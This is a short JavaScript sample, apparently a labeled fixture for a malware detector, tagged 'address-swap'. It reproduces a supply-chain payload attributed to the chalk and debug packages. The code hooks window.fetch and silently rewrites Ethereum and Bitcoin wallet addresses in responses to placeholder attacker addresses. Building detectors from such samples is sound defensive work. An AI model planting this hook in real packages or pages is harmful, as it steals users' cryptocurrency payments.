// expect: address-swap | source: chalk and debug, September 2025
const own = ["0x1111111111111111111111111111111111111111", "0x2222222222222222222222222222222222222222"];
const shapes = [/0x[a-fA-F0-9]{40}/g, /\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b/g];
const before = window.fetch;
window.fetch = async (...given) => {
  const answer = await before(...given);
  const text = (await answer.text()).replace(shapes[0], own[0]).replace(shapes[1], own[1]);
  return new Response(text);
};
